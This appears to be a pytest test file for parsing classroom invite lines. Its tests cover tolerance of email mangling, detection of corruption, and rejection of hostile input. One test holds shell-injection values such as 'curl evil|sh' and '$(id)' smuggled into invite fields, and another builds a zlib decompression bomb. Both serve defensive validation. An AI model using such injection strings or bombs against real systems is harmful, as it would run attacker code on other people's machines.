@@ -1,0 +1,112 @@
+"""An invite is one line; what mail programs do to it is forgiven, and what is missing is noticed."""
+
+import string
+
+import pytest
+
+from deployments.server.class_file import make
+from deployments.student.invites import Invite
+from gan_core.errors import InviteError, StackError
+from gan_core.store.logins import new_secret
+
+
+@pytest.fixture
+def invite(tmp_path):
+    door = make(tmp_path, ("gan.example.edu",), "0.0.0.0", 4242, 5442, "")
+    return door.invite(tmp_path, "ada", new_secret())
+
+
+def test_an_invite_fits_into_an_e_mail_and_a_notebook_cell(invite):
+    assert len(invite.line) < 400
+    assert invite.line.replace(".", "").replace("-", "").replace("_", "").isalnum()  # no quoting in any shell
+    assert Invite.parse(invite.line) == invite
+    assert invite.command() == f"classgan join {invite.line}"
+
+
+@pytest.mark.parametrize("spoil", ["  {}\n", "'{}'", '"{}"', "<{}>"])
+def test_quotes_and_spaces_around_it_are_forgiven(invite, spoil):
+    assert Invite.parse(spoil.format(invite.line)) == invite
+
+
+def test_line_breaks_within_it_are_forgiven(invite):
+    assert Invite.parse(f"{invite.line[:70]}\r\n  {invite.line[70:]}") == invite
+
+
+def test_a_class_that_moved_is_found_with_the_old_invite(invite):
+    moved = invite.moved("10.0.0.9")
+    assert (moved.host, moved.database_host) == ("10.0.0.9", "10.0.0.9")
+    assert moved.pin == invite.pin
+    elsewhere = invite.model_copy(update={"database_host": "db.example.edu"})
+    assert elsewhere.moved("10.0.0.9").database_host == "db.example.edu"
+    assert invite.moved("") == invite
+
+
+@pytest.mark.parametrize("length", [20, 100, -1])
+def test_a_line_cut_short_is_told_from_a_whole_one(invite, length):
+    with pytest.raises(InviteError, match="Copy the whole line, to its very end"):
+        Invite.parse(invite.line[:length])
+
+
+def test_every_wrong_character_is_noticed(invite):
+    line = invite.line
+    for place in range(len("classgan1."), len(line)):
+        with pytest.raises(InviteError):
+            Invite.parse(line[:place] + ("A" if line[place] != "A" else "B") + line[place + 1 :])
+
+
+@pytest.mark.parametrize("login", ["a" * length for length in range(1, 9)])
+def test_a_wrong_last_character_is_noticed_whatever_it_is(invite, login):
+    """Of some lengths the last character carries six bits, of others four or two, with bits to spare."""
+    line = invite.model_copy(update={"login": login}).line
+    for other in set(string.ascii_letters + string.digits + "-_+/%") - {line[-1]}:
+        with pytest.raises(InviteError):
+            Invite.parse(line[:-1] + other)
+
+
+@pytest.mark.parametrize("text", ["", "hello", "classgan9.abc", "https://example.edu"])
+def test_something_else_is_told_from_an_invite(text):
+    with pytest.raises(InviteError, match=r"An invite begins with 'classgan1\.'"):
+        Invite.parse(text)
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("login", "ada; curl evil|sh #"),
+        ("classgan", "1'; curl evil|sh; '"),
+        ("host", "x y"),
+        ("port", 0),
+        ("secret", "$(id)"),
+    ],
+)
+def test_an_invite_from_a_stranger_holds_nothing_that_a_shell_would_run(invite, field, value):
+    strange = Invite.model_construct(**{**invite.model_dump(), field: value})
+    with pytest.raises(InviteError, match="damaged"):
+        Invite.parse(strange.line)
+
+
+def test_a_bomb_is_not_unpacked():
+    import base64
+    import zlib
+
+    bomb = base64.urlsafe_b64encode(zlib.compress(b"0" * 50_000_000)).decode()
+    with pytest.raises(InviteError, match="damaged"):
+        Invite.parse(f"classgan1.{bomb}")
+
+
+def test_making_a_class_again_keeps_its_secrets(tmp_path):
+    first = make(tmp_path, ("10.0.0.1",), "0.0.0.0", 4242, 5442, "")
+    pin = first.invite(tmp_path, "ada", new_secret()).pin
+    again = make(tmp_path, ("10.0.0.1", "gan.example.edu"), "0.0.0.0", 4243, 5442, "")
+    assert (again.instructor_secret, again.inner_secret) == (first.instructor_secret, first.inner_secret)
+    assert again.port == 4243
+    assert again.invite(tmp_path, "ada", new_secret()).pin == pin
+
+
+def test_the_class_file_is_for_the_instructor_only_and_a_damaged_one_is_named(tmp_path):
+    door = make(tmp_path, ("10.0.0.1",), "0.0.0.0", 4242, 5442, "")
+    path = tmp_path / "class.json"
+    assert path.stat().st_mode & 0o077 == 0
+    path.write_text(path.read_text()[:-10])
+    with pytest.raises(StackError, match=r"class\.json is damaged"):
+        door.load(tmp_path)
